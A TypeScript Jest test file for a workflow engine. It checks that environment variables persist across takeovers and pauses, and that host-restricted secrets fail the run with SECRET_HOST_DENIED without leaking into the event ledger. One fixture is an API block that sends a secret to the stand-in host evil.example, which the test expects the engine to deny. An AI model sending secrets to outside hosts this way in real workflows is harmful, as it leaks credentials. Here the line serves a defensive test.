import { describe, expect, it } from '@jest/globals';
import { checkDefinition, compileWorkflow } from '@libs/blocks';
import type { ExecutionEvent } from '@libs/execution';
import { ownExecution, plainRequest } from '../../../../test/support/owned-execution.js';
import { noSecrets } from './secrets.js';

const workflowOf = (...blocks: readonly { type: string; config: object }[]) => {
  const checked = checkDefinition({
    blocks: [
      { id: 'start', type: 'manual', name: 'Start', config: {} },
      ...blocks.map((block, n) => ({ id: `b${n}`, name: `B${n}`, ...block })),
    ],
    edges: blocks.map((_, n) => ({ from: n === 0 ? 'start' : `b${n - 1}`, to: `b${n}` })),
  });
  if (!checked.ok) throw new Error(JSON.stringify(checked.problems));
  return compileWorkflow(checked.definition).workflow;
};
const reads = { type: 'variables', config: { values: { a: '<env.A>', none: '<env.NONE>' } } };
const pause = { type: 'wait', config: { durationMs: 60_000 } };
const calls = { type: 'api', config: { url: '<env.A>' } };

const outputsOf = (ledger: readonly ExecutionEvent[]): string[] =>
  ledger.flatMap((event) => (event.type === 'BlockCompleted' ? [event.data.output] : []));
const answer = () => Promise.resolve({});

describe('the variables of the workspace', () => {
  it.each([1, 2, 3])(
    'stay as they were when the execution began, through a takeover after event %i',
    async (diesAfter) => {
      const workflow = workflowOf(reads, reads);
      const ledger: ExecutionEvent[] = [];
      const own = { request: plainRequest, workflow, ledger, pick: 0, answer };
      await ownExecution({ ...own, environment: '{"A":1}', diesAfter });
      await ownExecution({ ...own, environment: '{"A":2}', diesAfter: 0 });
      const output = '{"a":1,"none":null}';
      expect(outputsOf(ledger)).toEqual([output, output]);
    },
  );

  it('stay through a pause', async () => {
    const workflow = workflowOf(pause, reads);
    const ledger: ExecutionEvent[] = [];
    const own = { request: plainRequest, workflow, ledger, pick: 0, answer, diesAfter: 0 };
    await ownExecution({ ...own, environment: '{"A":{"deep":[true]}}' });
    expect(ledger.at(-1)?.type).toBe('ExecutionParked');
    await ownExecution({ ...own, environment: '{"A":2}' });
    expect(outputsOf(ledger)[1]).toBe('{"a":{"deep":[true]},"none":null}');
  });

  it('are durable before a call uses them', async () => {
    const workflow = workflowOf(calls);
    const ledger: ExecutionEvent[] = [];
    let acknowledge = (): void => undefined;
    const acknowledged = new Promise<void>((resolve) => (acknowledge = resolve));
    const urls: number[] = [];
    const owned = ownExecution({
      ...{ request: plainRequest, workflow, ledger, pick: 0, diesAfter: 0 },
      environment: '{"A":"https://erp.example/"}',
      acknowledged: () => acknowledged,
      answer: () => {
        urls.push(ledger.length);
        return answer();
      },
    });
    while (ledger.length < 2) await new Promise(setImmediate);
    for (let n = 0; n < 20; n += 1) await new Promise(setImmediate);
    expect(urls).toEqual([]);
    acknowledge();
    await owned;
    expect(urls).toHaveLength(1);
  });

  it('are absent from executions that an earlier release started', async () => {
    const workflow = workflowOf(reads);
    const ledger: ExecutionEvent[] = [];
    const own = { request: plainRequest, workflow, ledger, pick: 0, answer };
    await ownExecution({ ...own, diesAfter: 1 });
    await ownExecution({ ...own, environment: '{"A":2}', diesAfter: 0 });
    expect(outputsOf(ledger)).toEqual(['{"a":null,"none":null}']);
  });
});

describe('a secret that names its hosts', () => {
  const secrets = {
    ...noSecrets,
    byName: new Map([['KEY', 'a-key']]),
    hosts: new Map([['KEY', ['erp.example']]]),
    masked: ['a-key'],
  };

  it.each([
    ['a function', { type: 'function', config: { code: 'return {{KEY}}.length' } }],
    ['an answer', { type: 'response', config: { body: '{{KEY}}' } }],
    ['a loop', { type: 'loop', config: { type: 'forEach', items: ['{{KEY}}'] } }],
    ['a wait', { type: 'wait', config: { until: '{{KEY}}' } }],
    [
      'a call elsewhere',
      {
        type: 'api',
        config: { url: 'https://evil.example/', query: [{ key: 'k', value: '{{KEY}}' }] },
      },
    ],
  ])('fails the run with SECRET_HOST_DENIED in %s, and is not in the ledger', async (_, block) => {
    const ledger: ExecutionEvent[] = [];
    await ownExecution({
      ...{ request: plainRequest, workflow: workflowOf(block), ledger, pick: 0, diesAfter: 0 },
      ...{ secrets, answer },
    });
    expect(ledger.at(-1)).toMatchObject({
      type: 'ExecutionCompleted',
      data: { status: 'error', error: { code: 'SECRET_HOST_DENIED', blockId: 'b0' } },
    });
    expect(JSON.stringify(ledger)).not.toContain('a-key');
  });
});
